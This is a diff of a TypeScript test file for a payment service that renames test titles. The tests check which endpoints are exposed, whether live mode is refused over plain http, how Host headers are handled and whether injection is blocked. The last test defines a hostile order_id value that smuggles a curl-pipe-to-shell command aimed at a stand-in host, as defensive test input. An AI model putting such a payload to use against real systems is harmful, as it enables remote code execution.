@@ -8,7 +8,7 @@ import { startTestService, type TestService } from "../support/service.ts";
 const PARTS = ["/demo", "/docs", "/llms.txt", "/openapi.json", "/metrics"];
 const TOKEN = "a-token-of-the-monitoring";
 
-describe("what a service shows to others", { timeout: 60_000 }, () => {
+describe("the surface of a service", { timeout: 60_000 }, () => {
   let shop: TestService;
   afterEach(() => shop.close());
 
@@ -23,7 +23,7 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
     return Object.fromEntries(await Promise.all(visits));
   }
   const every = (status: number) => Object.fromEntries(PARTS.map((path) => [path, status]));
-  /** The answer to a request for a session, with a key of the mode. */
+  /** Returns the answer to a session request with a key of the mode. */
   async function sessionOf(mode: "test" | "live") {
     const { testApiKey, liveApiKey } = shop.merchant;
     return shop.api.post("/api/v1/checkout/session", {
@@ -40,14 +40,14 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
       { authorization: `Bearer ${shop.merchant.testApiKey}` },
     );
 
-  it("is all of it where only this machine reaches it", async () => {
+  it("is complete where only this machine reaches it", async () => {
     await start({});
     expect(await statuses()).toEqual(every(200));
     expect((await registers("http://127.0.0.1:9999/hooks")).status).toBe(200);
     for (const mode of ["test", "live"] as const) expect((await sessionOf(mode)).status).toBe(200);
   });
 
-  it("is no shop, documentation or metrics behind a public address", async () => {
+  it("has no shop, documentation or metrics at a public address", async () => {
     await start({ VEZNE_PUBLIC_URL: "https://pay.example" });
     expect(await statuses()).toEqual(every(404));
     expect(await registers("http://127.0.0.1:9999/hooks")).toMatchObject({
@@ -57,7 +57,7 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
     for (const mode of ["test", "live"] as const) expect((await sessionOf(mode)).status).toBe(200);
   });
 
-  it("is what the settings say, and metrics for those with the token", async () => {
+  it("follows the settings, with metrics for callers with the token", async () => {
     await start({
       VEZNE_PUBLIC_URL: "https://pay.example",
       VEZNE_DEMO_SHOP: "on",
@@ -71,7 +71,7 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
     expect(await statuses({ authorization: `Bearer ${TOKEN}` })).toEqual(every(200));
   });
 
-  it("is no live mode over plain http to other machines", async () => {
+  it("has no live mode over plain http for other machines", async () => {
     await start({ VEZNE_PUBLIC_URL: "http://pay.example" });
     expect((await sessionOf("test")).status).toBe(200);
     expect(await sessionOf("live")).toMatchObject({
@@ -91,7 +91,7 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
     ]);
   });
 
-  it("is no test mode without the simulated bank", async () => {
+  it("has no test mode without the simulated bank", async () => {
     await start({ VEZNE_SIMULATED_BANK: "off" });
     expect(await sessionOf("test")).toMatchObject({
       status: 400,
@@ -105,7 +105,7 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
     expect((await fetch(`${shop.url}/bank/challenge/ch_1`)).status).toBe(404);
   });
 
-  it("is one host: two of them are refused", async () => {
+  it("has one host: two Host headers are refused", async () => {
     await start({});
     const { hostname, port } = new URL(shop.url);
     const status = await new Promise((resolve) => {
@@ -119,7 +119,7 @@ describe("what a service shows to others", { timeout: 60_000 }, () => {
     expect((await createApiClient(shop.url, "").get("/healthz")).status).toBe(200);
   });
 
-  it("is no command that a return address wrote into the shop's page", async () => {
+  it("has no command that a return URL injects into the shop's page", async () => {
     await start({});
     const hostile = "x';curl evil.example|sh;'";
     const query = new URLSearchParams({ order_id: hostile, session_id: "cs_1", status: "success" });
